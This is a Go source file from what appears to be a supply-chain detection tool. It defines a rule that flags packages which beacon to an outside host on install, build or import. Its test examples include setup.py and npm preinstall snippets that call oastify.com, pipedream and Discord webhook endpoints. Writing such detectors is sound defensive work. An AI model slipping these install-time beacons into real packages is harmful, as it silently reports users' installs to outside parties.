package rule

import b "taisei/detect/behaviour"

// beacon: that a package was installed, and where, is told to somebody.
func beacon() []Rule {
	return []Rule{
		{
			ID: "beacon_sent", Severity: Critical,
			When: []Condition{
				{Triggers: []string{b.Install, b.Build, b.Import}, Sources: []string{b.Host}, Sinks: []string{b.Network}, Slots: []string{"connection"}, Target: Drop, Script: No},
				{Triggers: []string{b.Install, b.Build}, Sources: []string{b.Host}, Sinks: []string{b.Network}, Slots: []string{"connection"}, Target: Shady, Script: No},
			},
			Examples: []Example{
				Python("a request to a drop", "import urllib.request\nurllib.request.urlopen('http://k3j2.oastify.com/test')\nfrom setuptools import setup\nsetup(name='example')\n"),
				Python("by a command", "import os\nfrom setuptools import setup\nos.system('curl https://k3j2.oastify.com/test')\nsetup(name='example')\n"),
				Module("a webhook", "import requests\nrequests.post('https://discord.com/api/webhooks/1/x', json={'content': 'installed'})\n"),
				Package("a request from a script", `"scripts":{"preinstall":"node i.js"}`, map[string]string{"i.js": "require('https').get('https://x.m.pipedream.net/installed')"}),
			},
			Neighbours: []Example{
				Python("a file that is needed", "import urllib.request\nfrom setuptools import setup\nurllib.request.urlretrieve('https://files.example/model.bin', 'example/model.bin')\nsetup(name='example')\n"),
				Module("when called", "import requests\ndef notify(text):\n    requests.post('https://discord.com/api/webhooks/1/x', json={'content': text})\n"),
			},
		},
	}
}
